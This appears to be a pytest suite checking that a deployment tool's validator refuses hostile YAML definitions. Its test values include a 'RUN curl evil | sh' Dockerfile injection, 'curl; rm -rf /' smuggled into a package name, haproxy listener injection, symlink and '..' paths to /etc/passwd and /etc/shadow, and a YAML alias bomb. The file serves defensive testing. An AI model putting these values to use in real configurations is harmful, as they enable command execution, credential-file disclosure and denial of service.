"""Hostile definitions: each is refused with the file, the field path and the rule, never a traceback.

One valid set (every kind, every field that reaches a generated file set) is written to a file;
each case changes one thing in it (or replaces the file's bytes) and names the problem expected:
the file, the exact path and a fragment of the rule. ``stratos validate`` (the CLI) is run on
every case too: exit code 1, the problem printed, no traceback.
"""

from __future__ import annotations

import copy
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from stratos import images
from stratos.cli import main
from stratos.errors import DriverError, ImageBuildError, ValidationError
from stratos.lb import config as lbconfig
from stratos.model import Cartridge, LbCluster
from stratos.validation import load

CARTRIDGE: dict[str, Any] = {
    "kind": "Cartridge",
    "name": "c",
    "display_name": "C",
    "version": "1.0",
    "image": {
        "build": {
            "base": "stratos/debian:bookworm",
            "packages": ["curl"],
            "files": [{"path": "/usr/local/bin/start", "src": "files/start.sh", "mode": "0755"}],
            "run": ["true"],
            "workdir": "/app",
            "env": {"A": "1"},
            "entrypoint": ["/usr/local/bin/start"],
            "command": ["serve"],
            "expose": [80],
        }
    },
    "ports": [{"name": "http", "port": 80, "proxy_port": 8080}],
    "health_check": {"http": "/health", "interval": 2, "timeout": 1.5},
    "environment": {"E": "v"},
    "exports": {"X": "{member.hostname}"},
    "deployment_dir": "/srv/app",
    "persistence": {"volumes": [{"name": "d", "mount_path": "/data"}]},
    "limits": {"cpus": 1, "memory": "256m"},
    "scales": True,
}
NETWORK_PARTITION: dict[str, Any] = {
    "kind": "NetworkPartition",
    "name": "local",
    "partitions": [{"name": "p1", "endpoint": "unix:///var/run/docker.sock", "zone": "a", "region": "r"}],
    "network": {"name": "stratos-local", "subnet": "10.10.0.0/24"},
    "openstack": {"admin_cidr": "192.0.2.0/24", "hosts": 2},
}
DEPLOYMENT_POLICY: dict[str, Any] = {
    "kind": "DeploymentPolicy",
    "name": "dp",
    "network_partitions": [{"name": "local", "partitions": [{"name": "p1", "max": 3}]}],
}
AUTOSCALING_POLICY: dict[str, Any] = {
    "kind": "AutoscalingPolicy",
    "name": "ap",
    "thresholds": {"requests_in_flight": 20, "load_average": 70},
    "behaviour": {"evaluation_interval": 5, "tolerance": 0.1},
}
LB_CLUSTER: dict[str, Any] = {
    "kind": "LbCluster",
    "name": "web",
    "network_partition": "local",
    "listeners": [{"proxy_port": 8080, "port": 80}],
    "health_check": {"interval": 2, "fall": 2, "rise": 1},
    "sticky": {"enabled": True, "cookie": "SID"},
    "stats": {"enabled": False, "port": 8404, "bind": "127.0.0.1"},
    "bind_address": "0.0.0.0",
}
APPLICATION: dict[str, Any] = {
    "kind": "Application",
    "name": "a",
    "subscriptions": [
        {
            "alias": "web",
            "cartridge": "c",
            "min": 1,
            "max": 3,
            "deployment_policy": "dp",
            "autoscaling_policy": "ap",
            "lb_cluster": "web",
            "environment": {"MODE": "prod"},
            "artifact": {
                "url": "https://git.example.invalid/a.git",
                "poll_interval": 15,
                "health_path": "/",
                "health_timeout": 30,
            },
        }
    ],
}
DOCS = [CARTRIDGE, NETWORK_PARTITION, DEPLOYMENT_POLICY, AUTOSCALING_POLICY, LB_CLUSTER, APPLICATION]
KIND_INDEX = {doc["kind"]: i for i, doc in enumerate(DOCS)}


def write_set(root: Path, docs: list[dict[str, Any]]) -> Path:
    (root / "files").mkdir(exist_ok=True)
    (root / "files" / "start.sh").write_text('#!/bin/sh\nexec "$@"\n')
    path = root / "set.yml"
    path.write_text(yaml.safe_dump_all(docs, sort_keys=False))
    return path


def at(kind: str, dotted: str, value: Any) -> Callable[[Path], Path]:
    """Set ``dotted`` (``a.b[0].c``) in the document of ``kind`` to ``value``."""

    def mutate(root: Path) -> Path:
        docs = copy.deepcopy(DOCS)
        target: Any = docs[KIND_INDEX[kind]]
        parts = dotted.replace("[", ".[").split(".")
        for part in parts[:-1]:
            target = target[int(part[1:-1])] if part.startswith("[") else target[part]
        last = parts[-1]
        if last.startswith("["):
            target[int(last[1:-1])] = value
        else:
            target[last] = value
        return write_set(root, docs)

    return mutate


def raw(data: bytes | str) -> Callable[[Path], Path]:
    def write(root: Path) -> Path:
        path = root / "set.yml"
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        return path

    return write


def symlinked_source(root: Path) -> Path:
    path = at("Cartridge", "image.build.files[0].src", "files/link")(root)
    os.symlink("/etc/passwd", root / "files" / "link")
    return path


def escaping_directory_link(root: Path) -> Path:
    path = at("Cartridge", "image.build.files[0].src", "up/etc/passwd")(root)
    os.symlink("/", root / "up")
    return path


ALIAS_BOMB = """\
a: &a ["x","x","x","x","x","x","x","x","x"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
kind: *h
"""

C, NP, DP, AP, LB, APP = (
    "cartridges/c",
    "network_partitions/local",
    "deployment_policies/dp",
    "autoscaling_policies/ap",
    "lb_clusters/web",
    "applications/a",
)
SUB = f"{APP}.subscriptions[0]"
FINITE = "must be a finite number"

# (id, make the file, expected path, expected rule fragment)
CASES: list[tuple[str, Callable[[Path], Path], str, str]] = [
    # ---- numbers: finite, bounded, never from strings or booleans
    (
        "hc-timeout-inf",
        at("Cartridge", "health_check.timeout", float("inf")),
        f"{C}.health_check.timeout",
        FINITE,
    ),
    (
        "hc-interval-nan",
        at("Cartridge", "health_check.interval", float("nan")),
        f"{C}.health_check.interval",
        FINITE,
    ),
    (
        "hc-timeout-huge",
        at("Cartridge", "health_check.timeout", 1e9),
        f"{C}.health_check.timeout",
        "must be <= 600",
    ),
    (
        "hc-retries-huge",
        at("Cartridge", "health_check.retries", 10**6),
        f"{C}.health_check.retries",
        "must be <= 100",
    ),
    (
        "artifact-health-timeout-inf",
        at("Application", "subscriptions[0].artifact.health_timeout", float("inf")),
        f"{SUB}.artifact.health_timeout",
        FINITE,
    ),
    (
        "artifact-poll-huge",
        at("Application", "subscriptions[0].artifact.poll_interval", 1e12),
        f"{SUB}.artifact.poll_interval",
        "must be <= 86400",
    ),
    (
        "artifact-keep-huge",
        at("Application", "subscriptions[0].artifact.keep_releases", 10**9),
        f"{SUB}.artifact.keep_releases",
        "must be <= 100",
    ),
    ("cpus-inf", at("Cartridge", "limits.cpus", float("inf")), f"{C}.limits.cpus", FINITE),
    ("cpus-huge", at("Cartridge", "limits.cpus", 1e6), f"{C}.limits.cpus", "must be <= 1024"),
    ("memory-zero", at("Cartridge", "limits.memory", "0m"), f"{C}.limits.memory", "between 6m"),
    ("memory-newline", at("Cartridge", "limits.memory", "256m\n"), f"{C}.limits.memory", "must be a size"),
    (
        "threshold-inf",
        at("AutoscalingPolicy", "thresholds.requests_in_flight", float("inf")),
        f"{AP}.thresholds.requests_in_flight",
        FINITE,
    ),
    (
        "threshold-percent-nan",
        at("AutoscalingPolicy", "thresholds.load_average", float("nan")),
        f"{AP}.thresholds.load_average",
        FINITE,
    ),
    (
        "evaluation-interval-inf",
        at("AutoscalingPolicy", "behaviour.evaluation_interval", float("inf")),
        f"{AP}.behaviour.evaluation_interval",
        FINITE,
    ),
    (
        "stabilisation-huge",
        at("AutoscalingPolicy", "behaviour.scale_down_stabilisation", 1e10),
        f"{AP}.behaviour.scale_down_stabilisation",
        "<= 86400",
    ),
    (
        "tolerance-nan",
        at("AutoscalingPolicy", "behaviour.tolerance", float("nan")),
        f"{AP}.behaviour.tolerance",
        FINITE,
    ),
    (
        "max-step-huge",
        at("AutoscalingPolicy", "behaviour.max_step", 10**7),
        f"{AP}.behaviour.max_step",
        "<= 1000",
    ),
    (
        "partition-max-huge",
        at("DeploymentPolicy", "network_partitions[0].partitions[0].max", 10**9),
        f"{DP}.network_partitions[0].partitions[0].max",
        "<= 1000",
    ),
    (
        "lb-interval-inf",
        at("LbCluster", "health_check.interval", float("inf")),
        f"{LB}.health_check.interval",
        FINITE,
    ),
    (
        "lb-interval-tiny",
        at("LbCluster", "health_check.interval", 1e-9),
        f"{LB}.health_check.interval",
        ">= 0.01",
    ),
    ("lb-fall-huge", at("LbCluster", "health_check.fall", 10**6), f"{LB}.health_check.fall", "<= 100"),
    ("lb-retries-huge", at("LbCluster", "retries", 10**6), f"{LB}.retries", "<= 100"),
    (
        "openstack-hosts-huge",
        at("NetworkPartition", "openstack.hosts", 10**6),
        f"{NP}.openstack.hosts",
        "<= 100",
    ),
    (
        "min-quoted",
        at("Application", "subscriptions[0].min", "1"),
        f"{SUB}.min",
        "must be a number, not a string",
    ),
    (
        "max-boolean",
        at("Application", "subscriptions[0].max", True),
        f"{SUB}.max",
        "must be a number, not a boolean",
    ),
    (
        "port-quoted",
        at("Cartridge", "ports[0].port", "80"),
        f"{C}.ports[0].port",
        "must be a number, not a string",
    ),
    (
        "timeout-quoted",
        at("Cartridge", "health_check.timeout", "3"),
        f"{C}.health_check.timeout",
        "not a string",
    ),
    ("tcp-yes", at("Cartridge", "health_check.tcp", "yes"), f"{C}.health_check.tcp", "must be true or false"),
    ("scales-one", at("Cartridge", "scales", 1), f"{C}.scales", "must be true or false"),
    (
        "sticky-enabled-string",
        at("LbCluster", "sticky.enabled", "true"),
        f"{LB}.sticky.enabled",
        "must be true or false",
    ),
    (
        "keep-volume-string",
        at("Cartridge", "persistence.volumes[0].keep_on_termination", "no"),
        f"{C}.persistence.volumes[0].keep_on_termination",
        "must be true or false",
    ),
    # ---- values that reach haproxy.cfg
    (
        "hc-http-injects-listen",
        at("Cartridge", "health_check.http", "/h\nlisten pwn\n    bind :9999\n    stats admin if TRUE"),
        f"{C}.health_check.http",
        "must be a URL path",
    ),
    (
        "hc-http-comment",
        at("Cartridge", "health_check.http", "/h #x"),
        f"{C}.health_check.http",
        "must be a URL path",
    ),
    (
        "hc-http-quote",
        at("Cartridge", "health_check.http", "/h'x"),
        f"{C}.health_check.http",
        "must be a URL path",
    ),
    (
        "sticky-cookie-injects",
        at("LbCluster", "sticky.cookie", "SID\nlisten pwn"),
        f"{LB}.sticky.cookie",
        "must be a cookie name",
    ),
    (
        "sticky-cookie-space",
        at("LbCluster", "sticky.cookie", "SID insert"),
        f"{LB}.sticky.cookie",
        "must be a cookie name",
    ),
    # ---- values that reach a Dockerfile, env or link file, labels
    (
        "version-injects-run",
        at("Cartridge", "version", "1.0\nRUN curl evil | sh"),
        f"{C}.version",
        "must be a Docker tag",
    ),
    ("version-slash", at("Cartridge", "version", "1/2"), f"{C}.version", "must be a Docker tag"),
    (
        "workdir-injects-run",
        at("Cartridge", "image.build.workdir", "/app\nRUN id"),
        f"{C}.image.build.workdir",
        "control characters (newline)",
    ),
    (
        "workdir-relative",
        at("Cartridge", "image.build.workdir", "app"),
        f"{C}.image.build.workdir",
        "absolute path",
    ),
    (
        "build-env-newline",
        at("Cartridge", "image.build.env", {"A": "1\nRUN id"}),
        f"{C}.image.build.env.A",
        "control characters",
    ),
    (
        "build-env-key",
        at("Cartridge", "image.build.env", {"A B": "1"}),
        f"{C}.image.build.env.A B.[key]",
        "variable name",
    ),
    (
        "environment-escape",
        at("Cartridge", "environment", {"E": "\x1b[31mred"}),
        f"{C}.environment.E",
        "control characters (U+001B)",
    ),
    (
        "subscription-env-newline",
        at("Application", "subscriptions[0].environment", {"M": "a\nB=2"}),
        f"{SUB}.environment.M",
        "control characters (newline)",
    ),
    (
        "subscription-env-key",
        at("Application", "subscriptions[0].environment", {"1X": "a"}),
        f"{SUB}.environment.1X.[key]",
        "variable name",
    ),
    (
        "exports-newline",
        at("Cartridge", "exports", {"X": "a\nEVIL=1"}),
        f"{C}.exports.X",
        "control characters",
    ),
    (
        "file-path-newline",
        at("Cartridge", "image.build.files[0].path", "/x\nRUN id"),
        f"{C}.image.build.files[0].path",
        "control characters",
    ),
    (
        "file-path-dir",
        at("Cartridge", "image.build.files[0].path", "/usr/local/bin/"),
        f"{C}.image.build.files[0].path",
        "not ending with '/'",
    ),
    (
        "file-path-dotdot",
        at("Cartridge", "image.build.files[0].path", "/a/../etc/passwd"),
        f"{C}.image.build.files[0].path",
        "'..'",
    ),
    (
        "file-mode",
        at("Cartridge", "image.build.files[0].mode", "0999"),
        f"{C}.image.build.files[0].mode",
        "must match",
    ),
    (
        "entrypoint-newline",
        at("Cartridge", "image.build.entrypoint", ["/bin/sh\n"]),
        f"{C}.image.build.entrypoint[0]",
        "control characters",
    ),
    (
        "package-shell",
        at("Cartridge", "image.build.packages", ["curl; rm -rf /"]),
        f"{C}.image.build.packages[0]",
        "Debian package name",
    ),
    (
        "package-option",
        at("Cartridge", "image.build.packages", ["-oAPT::x=1"]),
        f"{C}.image.build.packages[0]",
        "Debian package name",
    ),
    ("run-empty", at("Cartridge", "image.build.run", ["  "]), f"{C}.image.build.run[0]", "must not be empty"),
    (
        "run-escape",
        at("Cartridge", "image.build.run", ["echo \x1b[2J"]),
        f"{C}.image.build.run[0]",
        "control characters",
    ),
    (
        "display-name-newline",
        at("Cartridge", "display_name", "C\nD"),
        f"{C}.display_name",
        "control characters",
    ),
    (
        "description-nul",
        at("Cartridge", "description", "a\x00b"),
        f"{C}.description",
        "control characters (U+0000)",
    ),
    ("name-trailing-newline", at("Cartridge", "name", "c\n"), "cartridges/?.name", "DNS label"),
    (
        "alias-trailing-newline",
        at("Application", "subscriptions[0].alias", "web\n"),
        f"{SUB}.alias",
        "DNS label",
    ),
    (
        "zone-space",
        at("NetworkPartition", "partitions[0].zone", "a b"),
        f"{NP}.partitions[0].zone",
        "must be a name",
    ),
    (
        "region-newline",
        at("NetworkPartition", "partitions[0].region", "r\n"),
        f"{NP}.partitions[0].region",
        "must be a name",
    ),
    (
        "endpoint-newline",
        at("NetworkPartition", "partitions[0].endpoint", "unix:///var/run/docker.sock\n"),
        f"{NP}.partitions[0].endpoint",
        "Docker endpoint",
    ),
    (
        "endpoint-space",
        at("NetworkPartition", "partitions[0].endpoint", "tcp://host:2375 -v"),
        f"{NP}.partitions[0].endpoint",
        "Docker endpoint",
    ),
    (
        "openstack-flavor",
        at("NetworkPartition", "openstack.flavor", "m1 small\n"),
        f"{NP}.openstack.flavor",
        "must be a name",
    ),
    # ---- IP addresses and networks
    ("bind-address-bad", at("LbCluster", "bind_address", "999.1.1.1"), f"{LB}.bind_address", "IP address"),
    ("bind-address-name", at("LbCluster", "bind_address", "localhost"), f"{LB}.bind_address", "IP address"),
    (
        "stats-bind-injects",
        at("LbCluster", "stats.bind", "127.0.0.1\nlisten x"),
        f"{LB}.stats.bind",
        "IP address",
    ),
    (
        "subnet-integer",
        at("NetworkPartition", "network.subnet", 5),
        f"{NP}.network.subnet",
        "written as a string",
    ),
    (
        "subnet-no-prefix",
        at("NetworkPartition", "network.subnet", "10.10.0.0"),
        f"{NP}.network.subnet",
        "prefix length",
    ),
    (
        "subnet-loopback",
        at("NetworkPartition", "network.subnet", "127.0.0.0/8"),
        f"{NP}.network.subnet",
        "not loopback",
    ),
    (
        "subnet-tiny",
        at("NetworkPartition", "network.subnet", "10.0.0.0/31"),
        f"{NP}.network.subnet",
        "/8 and /29",
    ),
    (
        "admin-cidr-bad",
        at("NetworkPartition", "openstack.admin_cidr", "0.0.0.0/33"),
        f"{NP}.openstack.admin_cidr",
        "IP network",
    ),
    (
        "admin-cidr-no-prefix",
        at("NetworkPartition", "openstack.admin_cidr", "10.0.0.0"),
        f"{NP}.openstack.admin_cidr",
        "prefix length",
    ),
    # ---- image references (distribution/reference grammar)
    (
        "ref-uppercase",
        at("Cartridge", "image", {"ref": "Debian:bookworm"}),
        f"{C}.image.ref",
        "Docker image reference",
    ),
    (
        "ref-space",
        at("Cartridge", "image", {"ref": "debian:book worm"}),
        f"{C}.image.ref",
        "Docker image reference",
    ),
    (
        "ref-option",
        at("Cartridge", "image", {"ref": "--privileged"}),
        f"{C}.image.ref",
        "Docker image reference",
    ),
    ("ref-two-tags", at("Cartridge", "image", {"ref": "a:b:c"}), f"{C}.image.ref", "Docker image reference"),
    (
        "ref-newline",
        at("Cartridge", "image", {"ref": "debian\n"}),
        f"{C}.image.ref",
        "Docker image reference",
    ),
    (
        "base-bad",
        at("Cartridge", "image.build.base", "debian:-x"),
        f"{C}.image.build.base",
        "Docker image reference",
    ),
    (
        "tag-bad",
        at("Cartridge", "image.build.tag", "x@sha256:zz"),
        f"{C}.image.build.tag",
        "Docker image reference",
    ),
    # ---- image file sources: inside the definition's directory
    (
        "src-absolute",
        at("Cartridge", "image.build.files[0].src", "/etc/shadow"),
        f"{C}.image.build.files[0].src",
        "must stay inside the definition's directory",
    ),
    (
        "src-dotdot",
        at("Cartridge", "image.build.files[0].src", "../../etc/passwd"),
        f"{C}.image.build.files[0].src",
        "no '..'",
    ),
    (
        "src-symlink-out",
        symlinked_source,
        f"{C}.image.build.files[0].src",
        "must stay inside the definition's directory (it resolves to /etc/passwd)",
    ),
    (
        "src-dir-symlink-out",
        escaping_directory_link,
        f"{C}.image.build.files[0].src",
        "must stay inside the definition's directory",
    ),
    (
        "src-missing",
        at("Cartridge", "image.build.files[0].src", "files/nope.sh"),
        f"{C}.image.build.files[0].src",
        "existing regular file",
    ),
    (
        "src-directory",
        at("Cartridge", "image.build.files[0].src", "files"),
        f"{C}.image.build.files[0].src",
        "existing regular file",
    ),
    (
        "mount-path-colon",
        at("Cartridge", "persistence.volumes[0].mount_path", "/data:rw"),
        f"{C}.persistence.volumes[0].mount_path",
        "':' or ','",
    ),
    # ---- sizes
    (
        "listeners-too-many",
        at("LbCluster", "listeners", [{"proxy_port": 1000 + i, "port": 80} for i in range(65)]),
        f"{LB}.listeners",
        "at most 64 item(s)",
    ),
    (
        "description-too-long",
        at("Cartridge", "description", "x" * 70000),
        f"{C}.description",
        "at most 65536 characters",
    ),
    # ---- the file itself
    ("alias-bomb", raw(ALIAS_BOMB), "line 2", "aliases are not allowed in definitions"),
    ("alias-small", raw("kind: &k Cartridge\nname: *k\n"), "line 2", "aliases are not allowed"),
    ("merge-key", raw("base: &b {x: 1}\nkind: Cartridge\n<<: {name: c}\n"), "line 3", "merge key"),
    (
        "duplicate-key",
        raw("kind: Cartridge\nname: c\nname: d\nimage: {ref: a}\n"),
        "line 3",
        "has the key 'name' twice (first on line 2)",
    ),
    (
        "duplicate-nested-key",
        raw(
            "kind: LbCluster\nname: w\nnetwork_partition: n\nlisteners:\n  - {proxy_port: 1, port: 2, port: 3}\n"
        ),
        "line 5",
        "has the key 'port' twice",
    ),
    ("empty-file", raw(""), "(file)", "holds no definition"),
    ("comments-only", raw("# nothing here\n---\n...\n"), "(file)", "holds no definition"),
    ("utf16", raw("kind: Cartridge\nname: c\n".encode("utf-16")), "(file)", "must be UTF-8 (it is UTF-16"),
    ("utf16-no-bom", raw("kind: Cartridge\n".encode("utf-16-le")), "(file)", "NUL bytes"),
    (
        "latin1",
        raw("kind: Cartridge\nname: caf\xe9\n".encode("latin-1")),
        "(file)",
        "invalid byte 0xe9 on line 2",
    ),
    (
        "deep-nesting",
        raw("kind: Cartridge\nname: c\nimage: " + "[" * 5000 + "]" * 5000 + "\n"),
        "line 3",
        "nests deeper than 32 levels",
    ),
    (
        "deep-block-nesting",
        raw("kind: Cartridge\n" + "".join("  " * i + f"k{i}:\n" for i in range(40))),
        "line 33",
        "nests deeper than 32 levels",
    ),
    (
        "too-big",
        raw("kind: Cartridge\ndescription: " + "x" * (1 << 20) + "\n"),
        "(file)",
        "must be at most 1048576 bytes",
    ),
    ("kind-list", raw("kind: [Cartridge]\nname: c\n"), "document 0.kind", "must be one of Cartridge"),
    ("kind-mapping", raw("kind: {a: 1}\nname: c\n"), "document 0.kind", "must be one of Cartridge"),
    ("key-unhashable", raw("kind: Cartridge\n? [a, b]\n: 1\n"), "line 2", "not a string or number"),
    (
        "name-binary",
        raw("kind: Cartridge\nname: !!binary Yw==\nimage: {ref: a}\n"),
        "cartridges/?.name",
        "must be a string",
    ),
]


@pytest.mark.parametrize(("make", "path", "rule"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_hostile_definition_is_refused_with_file_path_and_rule(
    tmp_path: Path, make: Callable[[Path], Path], path: str, rule: str, capsys: pytest.CaptureFixture[str]
) -> None:
    file = make(tmp_path)
    with pytest.raises(ValidationError) as caught:
        load([tmp_path])
    found = [(p.file, p.path, p.rule) for p in caught.value.problems]
    assert any(f == str(file) and p == path and rule in r for f, p, r in found), found
    # Every message is bounded, whatever the value (a 1 MiB string, a huge structure).
    assert all(len(str(p)) < 1200 for p in caught.value.problems)

    capsys.readouterr()
    assert main(["validate", str(tmp_path)]) == 1
    err = capsys.readouterr().err
    assert f"{file}: {path}" in err and rule in err
    assert "Traceback" not in err


def test_the_unchanged_set_is_valid(tmp_path: Path) -> None:
    write_set(tmp_path, DOCS)
    ds = load([tmp_path])
    assert set(ds.cartridges) == {"c"} and set(ds.applications) == {"a"}


def test_an_anchor_without_alias_and_a_utf8_bom_are_accepted(tmp_path: Path) -> None:
    text = "\ufeffkind: Cartridge\nname: &n c\nimage: {ref: 'stratos/x:1'}\n"
    (tmp_path / "c.yml").write_bytes(text.encode())
    assert set(load([tmp_path]).cartridges) == {"c"}


def test_a_files_root_setting_allows_sources_from_another_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "start.sh").write_text("#!/bin/sh\n")
    defs = tmp_path / "defs"
    defs.mkdir()
    at("Cartridge", "image.build.files[0].src", str(shared / "start.sh"))(defs)
    with pytest.raises(ValidationError, match="must stay inside the definition's directory"):
        load([defs])
    monkeypatch.setenv("STRATOS_FILES_ROOT", str(shared))
    assert set(load([defs]).cartridges) == {"c"}


# --------------------------------------------------------------------------- the image build refuses nothing the model accepts


def _build_of(cartridge: dict[str, Any]) -> dict[str, Any]:
    return copy.deepcopy(cartridge)


# Definitions the image build refuses (stratos.images.render_build); `stratos validate` refuses each first.
BUILD_REFUSES: list[tuple[str, str, Any]] = [
    ("base", "image.build.base", "Not/An:Image"),
    ("package", "image.build.packages", ["curl;id"]),
    ("env-key", "image.build.env", {"A-B": "1"}),
    ("env-value", "image.build.env", {"A": "x\ny"}),
    ("expose", "image.build.expose", [0]),
    ("workdir-relative", "image.build.workdir", "app"),
    ("workdir-newline", "image.build.workdir", "/app\nRUN id"),
    ("file-path-relative", "image.build.files[0].path", "etc/x"),
    ("file-path-dotdot", "image.build.files[0].path", "/a/../b"),
    ("file-path-trailing-slash", "image.build.files[0].path", "/a/"),
    ("file-src-missing", "image.build.files[0].src", "files/none"),
    ("file-src-absolute", "image.build.files[0].src", "/etc/passwd"),
    ("file-src-dotdot", "image.build.files[0].src", "../x"),
    ("run-empty", "image.build.run", [""]),
    ("run-control", "image.build.run", ["echo \x1b"]),
    ("tag", "image.build.tag", "UPPER:case"),
    ("version", "version", "1.0\nRUN id"),
    ("command-newline", "image.build.command", ["a\nb"]),
]


@pytest.mark.parametrize(
    ("dotted", "value"), [c[1:] for c in BUILD_REFUSES], ids=[c[0] for c in BUILD_REFUSES]
)
def test_validate_refuses_first_what_the_image_build_refuses(tmp_path: Path, dotted: str, value: Any) -> None:
    file = at("Cartridge", dotted, value)(tmp_path)
    data = yaml.safe_load_all(file.read_text())
    cartridge = next(iter(data))
    image = images.CartridgeImage(
        name=cartridge["name"],
        version=str(cartridge["version"]),
        build=images.BuildSpec.of(cartridge["image"]["build"]),
        source_dir=tmp_path,
    )
    with pytest.raises(ImageBuildError):
        images.render_build(image)
    with pytest.raises(ValidationError) as caught:
        load([tmp_path])
    expected = f"{C}.{dotted}"
    assert any(p.path.startswith(expected) for p in caught.value.problems), caught.value.problems


def test_a_trailing_backslash_in_run_cannot_continue_into_the_next_instruction(tmp_path: Path) -> None:
    file = at("Cartridge", "image.build.run", ["echo hi \\"])(tmp_path)
    cartridge = Cartridge.model_validate(next(iter(yaml.safe_load_all(file.read_text()))))
    context = images.render_build(images.CartridgeImage.of(cartridge, tmp_path))
    line = next(li for li in context.dockerfile.splitlines() if li.startswith("RUN echo") or "echo hi" in li)
    assert line == 'RUN ["/bin/sh", "-ec", "echo hi \\\\"]'


def test_a_symlinked_source_is_refused_by_the_image_build_too(tmp_path: Path) -> None:
    symlinked_source(tmp_path)
    data = next(iter(yaml.safe_load_all((tmp_path / "set.yml").read_text())))
    image = images.CartridgeImage.of(data, tmp_path)
    with pytest.raises(
        ImageBuildError, match=r"files\[0\]\.src .*must stay inside the definition's directory"
    ):
        images.render_build(image)


# --------------------------------------------------------------------------- haproxy.cfg rendering checks again


@pytest.mark.parametrize(
    ("checks", "cookie", "match"),
    [
        ({8080: "/h\nlisten pwn\n    stats admin if TRUE"}, "SID", "health check path of listener 8080"),
        ({}, "SID\nlisten pwn", r"sticky\.cookie"),
    ],
    ids=["check-path", "cookie"],
)
def test_render_config_refuses_a_value_that_would_inject(
    checks: dict[int, str], cookie: str, match: str
) -> None:
    lb = LbCluster.model_validate({k: v for k, v in LB_CLUSTER.items() if k != "kind"})
    # A value that went around the model (model_construct validates nothing).
    sneaky = lb.model_copy(update={"sticky": lb.sticky.model_construct(enabled=True, cookie=cookie)})
    with pytest.raises(DriverError, match=match):
        lbconfig.render_config(sneaky, checks)
